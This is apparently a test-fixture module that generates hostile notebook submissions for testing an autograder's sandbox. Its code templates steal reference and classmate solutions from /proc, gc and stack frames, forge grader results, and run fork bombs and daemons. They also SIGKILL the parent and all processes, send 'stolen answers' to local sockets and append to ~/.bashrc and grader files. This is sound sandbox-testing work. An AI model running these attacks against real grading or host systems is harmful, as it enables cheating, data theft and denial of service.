"""Hostile submissions for tests/test_grading_attacks.py, built from the reference notebook.

Each attack is the reference notebook with one task's solution region (or the
whole 1b/2b cell) replaced by attacking code, or a malformed file. The code
is generated for one grading run: it embeds that run's paths, ports, the pid
of a sentinel process and a marker (``Context.marker``) that every process an
attack starts carries in its name (prctl PR_SET_NAME, inherited by forks) or
environment (when it can exec ``sleep``), so that the test can find
survivors in /proc.

Attacks that try to get points without doing the work answer nothing
honest: their task is worth 0. Attacks that try a side effect (network,
signals, writes, processes) do the honest work afterwards; when the side
effect worked they raise ``ATTACK-SUCCEEDED: ...`` instead, so that the
gradebook says so.
"""
from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from notebook_edits import with_region

from instructor.solution_regions import find_regions
from instructor.tasks import POINTS, TASKS

SUCCESS_WORD = "ATTACK-SUCCEEDED"
PROBE_WORD = "EX4-PROBE"
# a file name the attacks try to create in folders they must not write
ATTACK_FILE = "written-by-an-attack.txt"
# a classmate's notes, in the grader's working directory and in a PYTHONPATH folder: no task may read them
SECRET_FILE = "classmate_notes.txt"
# a cell IPython's transformer re-reads once per line: 520 magic assignments of 365 characters
STALL_LINES = 520
STALL_LINE_CHARS = 365
# cell markers of a .py file that jupytext reads for tens of seconds
STALL_MARKERS = 100_000
# the start of a table row that a file name holding a newline would draw in the terminal
FORGED_ROW = "FORGED-ROW"
# processes that each fill this much memory, under the per-process address-space cap (2 GB): 3.6 GB together
MEMORY_PROCESSES = 6
MEMORY_PER_PROCESS_MB = 600
# depth of the nested results: deeper than Python's default recursion limit (1000)
NESTING_DEPTH = 1300
# extra keys of the huge per-class dict
HUGE_DICT_KEYS = 300_000
# processes of the fork bomb
FORK_BOMB_SIZE = 200
# terms of an expression that parses and compiles but breaks a recursive ast.NodeVisitor
DEEP_VALID_TERMS = 800


@dataclass
class Context:
    """What one grading run's attacks need to know about the machine."""

    marker: str  # 11 characters; with a tag of up to 4 it fits a process name (15)
    project: Path  # the project copy grade.py runs from
    submissions: Path
    out: Path  # the gradebook's folder
    home: Path  # $HOME of grade.py
    world: Path  # a world-writable folder (0o777)
    canary: Path  # a world-writable file (0o666) in ``world``
    gradebook_csv: Path
    known_solutions: tuple[Path, ...]  # solution.py paths an attacker could guess
    sentinel_pid: int  # a process the task must not be able to signal
    test_pid: int
    tcp_port: int
    udp_port: int | None
    abstract_name: str
    honest_submission: Path | None = None  # one honest classmate's file
    # the grader's working directory and a PYTHONPATH folder, each holding a classmate's notes (SECRET_FILE)
    grader_cwd: Path | None = None
    python_path: Path | None = None


@dataclass
class Attack:
    """One hostile submission and what the grader may give it.

    ``task``: the attacked task (None: the whole file is the attack).
    ``safe``: the most points the attacked task may get (None: its full points:
    a side-effect attack that then does the work). ``confined``: the other
    tasks keep full points. ``review``: words of which one must appear in a
    review flag of the submission (empty: not required to be flagged).
    """

    name: str
    task: str | None
    safe: int | None
    build: Callable[[Context, Path], None]
    confined: bool = True
    review: tuple[str, ...] = ()
    suffix: str = ".ipynb"
    description: str = ""
    runs: frozenset[str] = field(default_factory=lambda: frozenset({"root"}))
    # the submission's file name without suffix, when not ``name``
    file_name: str = ""

    def max_points(self) -> int:
        if self.task is None:
            return 0
        return POINTS[self.task] if self.safe is None else self.safe


# points of Task 1a's checks (grading/verdicts.py); a forward that returns garbage keeps only those of __init__
try:
    from instructor.grading.judge import CHECK_POINTS as _CHECK_POINTS
    CHECKS_1A = dict(_CHECK_POINTS["1a"])
except Exception:  # noqa: BLE001 -- the grader is being rewritten; its documented table
    CHECKS_1A = {"output_shape": 4, "parameter_count": 4, "negative_outputs": 3, "nonlinear": 3, "same_function": 6}
# a model with the right layers whose forward returns no tensor: its parameter count is right
SAFE_COUNT_ONLY = CHECKS_1A["parameter_count"]
# ... and whose forward returns NaN/inf of the right shape: shape and count are right
SAFE_SHAPE_AND_COUNT = CHECKS_1A["parameter_count"] + CHECKS_1A["output_shape"]


# --------------------------------------------------------------------- notebook editing


def load_reference(notebook: Path) -> nbformat.NotebookNode:
    return nbformat.read(notebook, as_version=4)


def copy_notebook(reference: nbformat.NotebookNode) -> nbformat.NotebookNode:
    return nbformat.reads(nbformat.writes(reference), as_version=4)


def region_body(notebook: nbformat.NotebookNode, task: str, occurrence: int = 0) -> str:
    """The dedented code of the ``occurrence``-th solution region of ``task``."""
    for cell in notebook.cells:
        if cell.cell_type != "code":
            continue
        regions = [r for r in find_regions(cell.source) if r.task == task]
        if len(regions) > occurrence:
            return textwrap.dedent(regions[occurrence].body)
    raise AssertionError(f"the reference notebook has no region {occurrence} of task {task}")


def code(template: str, **values: object) -> str:
    """``template`` dedented, with ``__NAME__`` replaced by ``repr(values[name])``."""
    text = textwrap.dedent(template).strip("\n")
    for name, value in values.items():
        text = text.replace(f"__{name.upper()}__", repr(value))
    return text


def prelude_then(prelude: str, honest: str) -> str:
    return textwrap.dedent(prelude).strip("\n") + "\n" + textwrap.dedent(honest).strip("\n")


# --------------------------------------------------------------------- shared attack code

# names the process (inherited by forks) and, where exec is allowed, runs `sleep` with the marker in its
# environment; then sleeps. Needs `os`, `time`.
LINGER = '''
import ctypes
import os
import time


def _ex4_mark(tag):
    name = (__MARKER__ + tag)[:15].encode()
    try:
        ctypes.CDLL(None).prctl(15, ctypes.c_char_p(name), 0, 0, 0)
    except Exception:
        try:
            with open("/proc/self/comm", "wb") as handle:
                handle.write(name)
        except OSError:
            pass


def _ex4_linger(tag):
    _ex4_mark(tag)
    try:
        os.closerange(3, 1 << 16)
    except OSError:
        pass
    for program in ("/bin/sleep", "/usr/bin/sleep"):
        try:
            os.execve(program, ["sleep", "1000"], {"EX4_ATTACK_MARKER": __MARKER__ + tag})
        except OSError:
            pass
    time.sleep(1000)
'''


def linger(ctx: Context) -> str:
    return code(LINGER, marker=ctx.marker)


# --------------------------------------------------------------------- 1: read solution.py

READ_SOLUTION_INIT = '''
import glob
import os


def _ex4_candidates():
    found = []

    def add_script(text):
        if text.endswith(".py"):
            folder = os.path.dirname(os.path.abspath(text))
            for guess in (folder, os.path.dirname(folder)):
                path = os.path.join(guess, "solution.py")
                if path not in found:
                    found.append(path)

    for cmdline in ["/proc/%d/cmdline" % os.getppid()] + sorted(glob.glob("/proc/[0-9]*/cmdline")):
        try:
            with open(cmdline, "rb") as handle:
                parts = handle.read().split(b"\\0")
        except OSError:
            continue
        for part in parts:
            add_script(part.decode(errors="ignore"))
    for value in os.environ.values():
        for piece in value.split(os.pathsep):
            found.append(os.path.join(piece, "solution.py"))
    return found + list(__KNOWN__)


_ex4_source = None
for _ex4_path in _ex4_candidates():
    try:
        with open(_ex4_path, encoding="utf-8") as _ex4_file:
            _ex4_text = _ex4_file.read()
    except (OSError, UnicodeDecodeError):
        continue
    if "class SimpleMLP" in _ex4_text:
        _ex4_source = _ex4_text
        break
if _ex4_source is None:
    raise RuntimeError("attack: no solution.py could be read")
_ex4_namespace = {"__name__": "ex4_stolen"}
exec(compile(_ex4_source, "stolen", "exec"), _ex4_namespace)
self.stolen = _ex4_namespace["SimpleMLP"](dims)
'''


def build_reads_solution(reference):
    def build(ctx: Context, path: Path) -> None:
        notebook = copy_notebook(reference)
        with_region(notebook, "1a", code(READ_SOLUTION_INIT, known=[str(p) for p in ctx.known_solutions]))
        with_region(notebook, "1a", "return self.stolen(input)", 1)
        nbformat.write(notebook, path)
    return build


# --------------------------------------------------------------------- 2: copy code out of memory

GC_STEAL_3A = '''
import gc

# EX4-ATTACK: this definition itself is not what it looks for
_ex4_stolen = None
for _ex4_object in gc.get_objects():
    if isinstance(_ex4_object, dict):
        _ex4_values = list(_ex4_object.values())
    elif isinstance(_ex4_object, (list, tuple)):
        _ex4_values = list(_ex4_object)
    else:
        continue
    for _ex4_value in _ex4_values:
        # a classmate's or the reference's working code, not another attack
        if (isinstance(_ex4_value, str) and "def compute_accuracy(" in _ex4_value
                and "(predicted == labels)" in _ex4_value and "_ex4" not in _ex4_value
                and "EX4-ATTACK" not in _ex4_value):
            _ex4_stolen = _ex4_value
            break
    if _ex4_stolen is not None:
        break
if _ex4_stolen is None:
    raise RuntimeError("attack: no compute_accuracy found in memory")
_ex4_namespace = {}
exec("import torch\\nfrom torch import nn\\nfrom torch.utils.data import DataLoader\\nfrom utils import *",
     _ex4_namespace)
exec(_ex4_stolen[_ex4_stolen.index("def compute_accuracy("):], _ex4_namespace)
return _ex4_namespace["compute_accuracy"](model, dataloader)
'''

FRAMES_STEAL_3B = '''
import sys

# EX4-ATTACK: this definition itself is not what it looks for
_ex4_wanted = "def compute_accuracy_per_class("


def _ex4_search(root):
    pending, visits, seen = [root], 0, set()
    while pending and visits < 200000:
        value = pending.pop()
        visits += 1
        if isinstance(value, str):
            # a classmate's or the reference's working code, not another attack
            if _ex4_wanted in value and "bincount" in value and "_ex4" not in value:
                return value
        elif isinstance(value, (dict, list, tuple)) and id(value) not in seen:
            seen.add(id(value))
            pending.extend(value.values() if isinstance(value, dict) else value)
    return None


_ex4_stolen = None
_ex4_frame = sys._getframe()
while _ex4_frame is not None and _ex4_stolen is None:
    for _ex4_scope in (_ex4_frame.f_locals, _ex4_frame.f_globals):
        _ex4_stolen = _ex4_search(list(_ex4_scope.values()))
        if _ex4_stolen is not None:
            break
    _ex4_frame = _ex4_frame.f_back
if _ex4_stolen is None:
    raise RuntimeError("attack: no compute_accuracy_per_class found on the stack")
_ex4_namespace = {}
exec("import torch\\nfrom torch import nn\\nfrom torch.utils.data import DataLoader\\nfrom utils import *",
     _ex4_namespace)
exec(_ex4_stolen[_ex4_stolen.index(_ex4_wanted):], _ex4_namespace)
return _ex4_namespace["compute_accuracy_per_class"](model, dataloader)
'''


def build_region(reference, task: str, body: str | Callable[[Context], str], occurrence: int = 0):
    def build(ctx: Context, path: Path) -> None:
        notebook = copy_notebook(reference)
        with_region(notebook, task, body(ctx) if callable(body) else body, occurrence)
        nbformat.write(notebook, path)
    return build


# --------------------------------------------------------------------- 3: forge the result

FORGE_3A = '''
import json
import os

_ex4_forged = [json.dumps({"status": "ok", "result": __FORGED__}).encode(),
               json.dumps(__RAW__).encode()]
for _ex4_fd in range(3, 256):
    for _ex4_payload in _ex4_forged[:1]:
        try:
            os.write(_ex4_fd, _ex4_payload)
        except OSError:
            pass
for _ex4_folder in {os.getcwd(), os.environ.get("HOME", "."), os.environ.get("TMPDIR", ".")}:
    try:
        _ex4_names = os.listdir(_ex4_folder)
    except OSError:
        continue
    for _ex4_name in _ex4_names + ["result.json", "results.json", "output.json", "outcome.json"]:
        for _ex4_payload in _ex4_forged:
            try:
                with open(os.path.join(_ex4_folder, _ex4_name), "wb") as _ex4_file:
                    _ex4_file.write(_ex4_payload)
            except OSError:
                pass
os._exit(0)
'''


def forged_accuracy_results() -> tuple[dict, dict]:
    """Results of today's 3a probe that earn full points, and the bare accuracies."""
    try:
        from instructor.tasks.probe_3a import ACCURACY_CASES
        values = {name: sum(case["correct"]) / len(case["correct"]) for name, case in ACCURACY_CASES.items()}
    except Exception:  # noqa: BLE001 -- the grader is being rewritten; these are today's cases
        values = {"single_batch": 0.625, "several_batches": 0.6}
    return ({name: {"type": "float", "value": value, "case": {}} for name, value in values.items()},
            {name: value for name, value in values.items()})


def forge_body(ctx: Context) -> str:
    forged, raw = forged_accuracy_results()
    return code(FORGE_3A, forged=forged, raw=raw)


# --------------------------------------------------------------------- 4: results that are too deep, big or not numbers

DEEP_ACCURACY = f'''
value = 0.625
for _ in range({NESTING_DEPTH}):
    value = [value]
return value
'''

DEEP_FORWARD_LIST = f'''
out = self.flatten(input)
for layer in self.layers[:-1]:
    out = self.activation(layer(out))
out = self.layers[-1](out)
for _ in range({NESTING_DEPTH}):
    out = [out]
return out
'''

DEEP_FORWARD_OBJECT = '''
class _Ex4Bottomless:
    """Looks like a batch of outputs; every conversion recurses without end."""

    shape = (input.shape[0], self.layers[-1].out_features)

    def __len__(self):
        return self.shape[0]

    def __getitem__(self, index):
        return _Ex4Bottomless()

    def __iter__(self):
        return iter([_Ex4Bottomless() for _ in range(self.shape[0])])

    def __float__(self):
        return float(_Ex4Bottomless())

    def __index__(self):
        return _Ex4Bottomless().__index__()

    def tolist(self):
        return [_Ex4Bottomless().tolist()]

    def __array__(self, *args, **kwargs):
        return _Ex4Bottomless().__array__()

    def __getattr__(self, name):
        return lambda *args, **kwargs: _Ex4Bottomless()


return _Ex4Bottomless()
'''

HUGE_INT_ACCURACY = "return 10 ** 399"

NAN_FORWARD = 'return torch.full((input.shape[0], self.layers[-1].out_features), float("nan"))'

INF_FORWARD = '''
out = torch.full((input.shape[0], self.layers[-1].out_features), float("inf"))
out[:, ::2] = -float("inf")
return out
'''

HUGE_DEEP_DICT = f'''
deep = 0.5
for _ in range({NESTING_DEPTH}):
    deep = {{"nested": deep}}
result = {{c: deep for c in range(10)}}
result.update((10 + i, float(i)) for i in range({HUGE_DICT_KEYS}))
return result
'''


# --------------------------------------------------------------------- 5: processes

CLOSE_FDS_AND_SLEEP = '''
_ex4_mark("C")
os.closerange(0, 1 << 16)
time.sleep(1000)
'''

DAEMON_2B = '''
_ex4_pid = os.fork()
if _ex4_pid == 0:
    try:
        os.setsid()
        if os.fork() > 0:
            os._exit(0)
        _ex4_mark("D")
        try:
            os.closerange(3, 1 << 16)
        except OSError:
            pass
        # change pid again and again for a while: a single sweep over /proc misses it
        _ex4_start, _ex4_hops = time.monotonic(), 0
        while time.monotonic() - _ex4_start < 3 and _ex4_hops < 300:
            if os.fork() > 0:
                os._exit(0)
            _ex4_hops += 1
        _ex4_linger("D")
    finally:
        os._exit(0)
os.waitpid(_ex4_pid, 0)
'''

FORK_BOMB_3B = f'''
if not globals().get("_ex4_bombed"):
    globals()["_ex4_bombed"] = True
    for _ in range({FORK_BOMB_SIZE}):
        try:
            _ex4_pid = os.fork()
        except OSError:
            break
        if _ex4_pid == 0:
            try:
                _ex4_linger("B")
            finally:
                os._exit(0)
'''


# --------------------------------------------------------------------- 6: malformed files and messages

SURROGATE_MESSAGE = r'raise ValueError("lone surrogate \ud800 in a message")'

ESCAPE_FLOOD = r'''
raise ValueError("\x1b[2J\x1b[H\x9b2J\x07\r" + "submission  1a  1b  2a  2b  3a  3b  total\n"
                 "honest.ipynb  20  10  20  10  20  20  100/100\x1b[0m\n" * 12000)
'''


def deep_valid_body(honest: str) -> str:
    return f"_ex4_depth = {' + '.join(['1'] * DEEP_VALID_TERMS)}\n" + textwrap.dedent(honest)


PARSER_RECURSION_CELL = "_ex4_overflow = " + "1 + " * 100_000 + "1\nreturn {}"

# 2a written differently from the reference, so that a quoted reference line cannot be the submission's own
TRAIN_2A_REWORDED = '''
optimizer.zero_grad(set_to_none=True)
scores = model(batch)
batch_loss = loss_fn(scores, labels)
batch_loss.backward()
optimizer.step()
losses.append(float(batch_loss.item()))
'''

REFERENCE_TRACEBACK_2B = '''
class _Ex4Doubled(nn.Module):
    """Twice as many predictions as labels: the loss inside the given train() raises."""

    def __init__(self, inner):
        super().__init__()
        self.inner = inner

    def forward(self, batch):
        return torch.cat([self.inner(batch), self.inner(batch)])


optimizers = [torch.optim.Adam(model.parameters(), lr=0.04) for model in models]
losses = [train(_Ex4Doubled(m), train_loader, o, loss_fn, n_epochs=1) for m, o in zip(models, optimizers)]
'''


# --------------------------------------------------------------------- 7: network

NETWORK_3A = '''
import socket

# numeric addresses and plain connect(): no name lookup that could fail for other reasons
if not globals().get("_ex4_networked"):
    globals()["_ex4_networked"] = True
    _ex4_worked = []
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as _ex4_socket:
            _ex4_socket.settimeout(3)
            _ex4_socket.connect(("127.0.0.1", __TCP_PORT__))
            _ex4_socket.sendall(b"stolen answers")
        _ex4_worked.append("TCP connect")
    except Exception:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as _ex4_socket:
            _ex4_socket.bind(("127.0.0.1", 0))
            _ex4_socket.listen()
        _ex4_worked.append("TCP bind")
    except Exception:
        pass
    if __UDP_PORT__ is not None:
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _ex4_socket:
                _ex4_socket.sendto(b"stolen answers", ("127.0.0.1", __UDP_PORT__))
        except Exception:
            pass
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _ex4_socket:
            _ex4_socket.settimeout(3)
            _ex4_socket.connect("\\0" + __ABSTRACT__)
            _ex4_socket.sendall(b"stolen answers")
        _ex4_worked.append("abstract unix socket")
    except Exception:
        pass
    if _ex4_worked:
        raise RuntimeError("ATTACK-SUCCEEDED: " + ", ".join(_ex4_worked))
'''


def network_body(ctx: Context, honest: str) -> str:
    return prelude_then(code(NETWORK_3A, tcp_port=ctx.tcp_port, udp_port=ctx.udp_port,
                             abstract=ctx.abstract_name), honest)


# --------------------------------------------------------------------- 8: signals

SIGNALS_1B = '''
import os
import signal

_ex4_killed = []
_ex4_parent = os.getppid()
if _ex4_parent > 1:
    try:
        os.kill(_ex4_parent, signal.SIGKILL)
        _ex4_killed.append("the parent process")
    except OSError:
        pass
    try:
        _ex4_group = os.getpgid(_ex4_parent)
        if _ex4_group != os.getpgid(0):
            os.killpg(_ex4_group, signal.SIGKILL)
            _ex4_killed.append("the parent's process group")
    except OSError:
        pass
try:
    os.kill(__SENTINEL__, signal.SIGKILL)
    _ex4_killed.append("the sentinel")
except OSError:
    pass
if _ex4_killed:
    raise RuntimeError("ATTACK-SUCCEEDED: killed " + ", ".join(_ex4_killed))
'''

KILLPG_SELF_2B = '''
import os
import signal

os.killpg(0, signal.SIGKILL)
'''

KILL_ALL_2B = '''
import os
import signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
'''

PROBE_3A = '''
import os

_ex4_seen = {}
for _ex4_name, _ex4_pid in (("sentinel", __SENTINEL__), ("test", __TEST_PID__)):
    try:
        os.kill(_ex4_pid, 0)
        _ex4_seen[_ex4_name] = "signalable"
    except ProcessLookupError:
        _ex4_seen[_ex4_name] = "invisible"
    except PermissionError:
        _ex4_seen[_ex4_name] = "visible"
try:
    with open("/proc/self/uid_map") as _ex4_file:
        _ex4_map = "_".join(_ex4_file.readline().split()) or "none"
except OSError:
    _ex4_map = "unreadable"
raise RuntimeError(f"EX4-PROBE uid={os.getuid()} map={_ex4_map} sentinel={_ex4_seen['sentinel']} "
                   f"test={_ex4_seen['test']}")
'''

SLOW_1B = '''
import time

time.sleep(3)
'''


# --------------------------------------------------------------------- 9: writing outside

WRITE_OUTSIDE_2A = '''
import os

if not globals().get("_ex4_wrote"):
    globals()["_ex4_wrote"] = True
    _ex4_done = []
    _ex4_folders = list(__FOLDERS__)
    try:
        with open("/proc/%d/cmdline" % os.getppid(), "rb") as _ex4_file:
            for _ex4_part in _ex4_file.read().split(b"\\0"):
                _ex4_text = _ex4_part.decode(errors="ignore")
                if _ex4_text.endswith(".py"):
                    _ex4_folders.append(os.path.dirname(os.path.dirname(os.path.abspath(_ex4_text))))
    except OSError:
        pass
    for _ex4_folder in _ex4_folders:
        _ex4_path = os.path.join(_ex4_folder, __ATTACK_FILE__)
        try:
            with open(_ex4_path, "x") as _ex4_file:
                _ex4_file.write("written by an attack")
            _ex4_done.append(_ex4_path)
        except OSError:
            pass
    for _ex4_path in __APPEND__:
        try:
            with open(_ex4_path, "a") as _ex4_file:
                _ex4_file.write("\\n# written by an attack\\n")
            _ex4_done.append(_ex4_path)
        except OSError:
            pass
    try:
        os.symlink(__CANARY__, __PLANT__)
        _ex4_done.append("a link at " + __PLANT__)
    except OSError:
        pass
    if _ex4_done:
        raise RuntimeError("ATTACK-SUCCEEDED: wrote " + ", ".join(_ex4_done))
'''


def write_outside_body(ctx: Context, own: Path, honest: str) -> str:
    folders = [str(p) for p in (ctx.project, ctx.submissions, ctx.out, ctx.home, ctx.world)]
    append = [str(ctx.canary), str(ctx.project / "solution.py"), str(ctx.project / "instructor" / "grade.py"),
              str(ctx.home / ".bashrc"), str(own)]
    if ctx.honest_submission is not None:
        append.append(str(ctx.honest_submission))
    return prelude_then(code(WRITE_OUTSIDE_2A, folders=folders, attack_file=ATTACK_FILE, append=append,
                             canary=str(ctx.canary), plant=str(ctx.gradebook_csv)), honest)


# --------------------------------------------------------------------- 10: round two (issue 17)

# memory that no address-space limit counts, and whether the OOM killer would pick this task first
UNCOUNTED_MEMORY_3B = '''
import ctypes
import os

_ex4_found = []
try:
    os.close(os.memfd_create("ex4"))
    _ex4_found.append("memfd_create")
except OSError:
    pass
_ex4_libc = ctypes.CDLL(None, use_errno=True)
_ex4_segment = _ex4_libc.shmget(0, 1 << 20, 0o1600)
if _ex4_segment >= 0:
    _ex4_libc.shmctl(_ex4_segment, 0, None)
    _ex4_found.append("shmget")
try:
    with open("/proc/self/oom_score_adj") as _ex4_file:
        if int(_ex4_file.read()) < 1000:
            _ex4_found.append("an oom_score_adj below the highest")
except OSError:
    pass
if _ex4_found:
    raise RuntimeError("ATTACK-SUCCEEDED: memory no limit counts: " + ", ".join(_ex4_found))
'''

# memory spread over processes, each under the address-space cap; all of it held at once is the attack
MANY_PROCESSES_MEMORY_3B = '''
import os
import select
import time

_ex4_read, _ex4_write = os.pipe()
_ex4_children = []
for _ex4_index in range(__PROCESSES__):
    _ex4_pid = os.fork()
    if _ex4_pid == 0:
        try:
            _ex4_block = b"\\x01" * (__MEGABYTES__ << 20)
            os.write(_ex4_write, b"+")
            time.sleep(30)
        finally:
            os._exit(0)
    _ex4_children.append(_ex4_pid)
os.close(_ex4_write)
_ex4_held, _ex4_deadline = 0, time.monotonic() + 10
while _ex4_held < __PROCESSES__ and time.monotonic() < _ex4_deadline:
    if not select.select([_ex4_read], [], [], max(0.0, _ex4_deadline - time.monotonic()))[0]:
        break
    _ex4_got = os.read(_ex4_read, 64)
    if not _ex4_got:
        break
    _ex4_held += len(_ex4_got)
for _ex4_pid in _ex4_children:
    try:
        os.kill(_ex4_pid, 9)
        os.waitpid(_ex4_pid, 0)
    except OSError:
        pass
os.close(_ex4_read)
if _ex4_held == __PROCESSES__:
    raise RuntimeError(f"ATTACK-SUCCEEDED: held {__PROCESSES__ * __MEGABYTES__} MB in {__PROCESSES__} processes")
'''

# the primitives of a covert channel between two tasks running at the same time: locks on a shared file
LOCKS_3A = '''
import fcntl
import os
import struct
import sys

_ex4_locked = []
_ex4_shared = [os.path.join(_ex4_entry, "utils.py") for _ex4_entry in sys.path
               if os.path.exists(os.path.join(_ex4_entry, "utils.py"))]
if _ex4_shared:
    with open(_ex4_shared[0], "rb") as _ex4_file:
        for _ex4_name, _ex4_try in (
                ("flock", lambda: fcntl.flock(_ex4_file, fcntl.LOCK_SH | fcntl.LOCK_NB)),
                ("F_SETLK", lambda: fcntl.lockf(_ex4_file, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, 7)),
                ("F_GETLK", lambda: fcntl.fcntl(_ex4_file, fcntl.F_GETLK, struct.pack("hhqqi", 1, 0, 7, 1, 0))),
                ("F_OFD_SETLK", lambda: fcntl.fcntl(_ex4_file, 37, struct.pack("hhqqi", 0, 0, 9, 1, 0)))):
            try:
                _ex4_try()
                _ex4_locked.append(_ex4_name)
            except OSError:
                pass
if _ex4_locked:
    raise RuntimeError("ATTACK-SUCCEEDED: locks on the shared file " + _ex4_shared[0] + ": "
                       + ", ".join(_ex4_locked))
'''

# a classmate's notes, looked for on the task's import path and at the places the grader was started from
READS_GRADER_PATH_3A = '''
import os
import sys

_ex4_read = []
for _ex4_folder in list(sys.path) + __FOLDERS__:
    try:
        with open(os.path.join(_ex4_folder, __SECRET_FILE__)) as _ex4_file:
            _ex4_read.append(_ex4_folder + ": " + _ex4_file.read(40))
    except OSError:
        pass
if _ex4_read:
    raise RuntimeError("ATTACK-SUCCEEDED: read a classmate's notes in " + "; ".join(_ex4_read))
'''


def reads_grader_path_body(ctx: Context, honest: str) -> str:
    folders = [str(folder) for folder in (ctx.grader_cwd, ctx.python_path) if folder is not None]
    return prelude_then(code(READS_GRADER_PATH_3A, folders=folders, secret_file=SECRET_FILE), honest)


def build_stall_cell(reference: nbformat.NotebookNode) -> Callable[[Context, Path], None]:
    """The reference notebook with one more cell: magic assignments that stall IPython's transformer."""
    def build(ctx: Context, path: Path) -> None:
        notebook = copy_notebook(reference)
        line = "mK = %ls ".ljust(STALL_LINE_CHARS, "x")
        notebook.cells.append(nbformat.v4.new_code_cell("\n".join([line] * STALL_LINES)))
        nbformat.write(notebook, path)
    return build


def build_stall_markers(reference: nbformat.NotebookNode) -> Callable[[Context, Path], None]:
    """A .py file of cell markers that takes jupytext tens of seconds, then an honest 3a."""
    def build(ctx: Context, path: Path) -> None:
        path.write_text("# %%\n" * STALL_MARKERS + "import torch\n\n\ndef compute_accuracy(model, dataloader):\n"
                        + textwrap.indent(region_body(reference, "3a"), "    ") + "\n")
    return build


# --------------------------------------------------------------------- the catalogue


def attacks(reference: nbformat.NotebookNode) -> list[Attack]:
    """Every attack, in the order they are graded."""
    honest = {task: region_body(reference, task) for task in TASKS}
    all_runs = frozenset({"root", "user"})
    found: list[Attack] = []

    def add(name, task, safe, build, **kwargs):
        found.append(Attack(name, task, safe, build, **kwargs))

    def region(task, body, occurrence=0):
        return build_region(reference, task, body, occurrence)

    def side_effect(task, prelude):
        """``prelude`` (a function of the context), then the task's honest code."""
        return region(task, lambda ctx: prelude_then(prelude(ctx), honest[task]))

    add("reads_solution", "1a", 0, build_reads_solution(reference), review=("/proc",), runs=all_runs,
        description="reads solution.py found via /proc/<ppid>/cmdline, /proc/*/cmdline, $PATHs or known paths")
    add("copies_from_gc", "3a", 0, region("3a", GC_STEAL_3A), review=("gc",), runs=all_runs,
        description="gc.get_objects() for a compute_accuracy definition (the reference's or a classmate's)")
    add("copies_from_frames", "3b", 0, region("3b", FRAMES_STEAL_3B), review=("_getframe",),
        description="sys._getframe() walk over f_locals/f_globals for compute_accuracy_per_class")
    add("forges_result", "3a", 0, region("3a", forge_body), review=("os.write",), runs=all_runs,
        description="forged result written to fds 3..255 and to every file in its folder, then os._exit(0)")
    add("deep_accuracy", "3a", 0, region("3a", DEEP_ACCURACY),
        description=f"compute_accuracy returns a list nested {NESTING_DEPTH} deep")
    add("deep_forward_list", "1a", SAFE_COUNT_ONLY, region("1a", DEEP_FORWARD_LIST, 1),
        description=f"forward returns the output nested {NESTING_DEPTH} lists deep")
    add("deep_forward_object", "1a", SAFE_COUNT_ONLY, region("1a", DEEP_FORWARD_OBJECT, 1),
        description="forward returns an object whose every conversion recurses")
    add("huge_int_accuracy", "3a", 0, region("3a", HUGE_INT_ACCURACY),
        description="compute_accuracy returns an int of 400 digits")
    add("nan_forward", "1a", SAFE_SHAPE_AND_COUNT, region("1a", NAN_FORWARD, 1),
        description="forward returns NaN of the right shape")
    add("inf_forward", "1a", SAFE_SHAPE_AND_COUNT, region("1a", INF_FORWARD, 1),
        description="forward returns +inf/-inf of the right shape")
    add("huge_deep_dict", "3b", 0, region("3b", HUGE_DEEP_DICT),
        description=f"per-class dict with {HUGE_DICT_KEYS} extra keys and values nested {NESTING_DEPTH} deep")
    add("closes_fds_and_sleeps", "2a", 0, region("2a", lambda ctx: prelude_then(linger(ctx), CLOSE_FDS_AND_SLEEP)),
        review=("ctypes", "closerange", "fd"),
        description="closes every file descriptor, then sleeps 1000 s")
    add("daemon", "2b", None, region("2b", lambda ctx: prelude_then(linger(ctx), DAEMON_2B) + "\n" + honest["2b"]),
        review=("fork", "setsid"), runs=all_runs,
        description="double fork + setsid, changes pid for 3 s, then sleeps 1000 s; then the honest 2b")
    add("fork_bomb", "3b", None, side_effect("3b", lambda ctx: linger(ctx) + "\n" + FORK_BOMB_3B),
        review=("fork",), description=f"{FORK_BOMB_SIZE} processes that sleep 1000 s; then the honest 3b")
    add("bad_cells_number", None, None, lambda ctx, path: path.write_text(
        json.dumps({"cells": 7, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})),
        description='a notebook whose "cells" is a number')
    add("bad_not_json", None, None, lambda ctx, path: path.write_text("{ this is not JSON\n"),
        description="a notebook that is not JSON")
    add("bad_parser_brackets", None, None, lambda ctx, path: path.write_text("[" * 200_000), suffix=".py",
        description='a module "[" * 200000')
    add("bad_parser_unary", None, None, lambda ctx, path: path.write_text("x = " + "-" * 200_000 + "1\n"),
        suffix=".py", description='a module "x = " + "-" * 200000 + "1" (MemoryError in the parser)')
    add("parser_recursion_cell", "3b", 0, region("3b", PARSER_RECURSION_CELL),
        description="the 3b cell holds 1 + 1 + ... (100000 terms): RecursionError in the parser")
    add("deep_valid_expression", "3b", None, region("3b", lambda ctx: deep_valid_body(honest["3b"])),
        description=f"valid 3b code with an expression {DEEP_VALID_TERMS} levels deep (breaks recursive "
                    "ast visitors): full points")
    add("surrogate_message", "2a", 0, region("2a", SURROGATE_MESSAGE),
        description='train raises ValueError("...\\ud800...")')
    add("escape_flood", "3b", 0, region("3b", ESCAPE_FLOOD),
        description="compute_accuracy_per_class raises a 1 MB message with terminal escape codes")
    add("reference_traceback", "2b", 0, lambda ctx, path: _reference_traceback(reference, path),
        description="2b makes the given train() raise inside its solution lines (2a reworded, full points)")
    add("network", "3a", None, region("3a", lambda ctx: network_body(ctx, honest["3a"])), review=("socket",),
        runs=all_runs, description="TCP connect to the test's listener, TCP bind, UDP send, abstract unix "
                                   "socket; then the honest 3a")
    add("signals", "1b", None, region("1b", lambda ctx: prelude_then(code(SIGNALS_1B, sentinel=ctx.sentinel_pid),
                                                                    honest["1b"])),
        review=("kill", "signal"), runs=all_runs,
        description="SIGKILL to the parent, the parent's process group and a sentinel; then the honest 1b")
    add("killpg_self", "2b", None, region("2b", prelude_then(KILLPG_SELF_2B, honest["2b"])),
        review=("kill", "signal"), description="os.killpg(0, SIGKILL)")
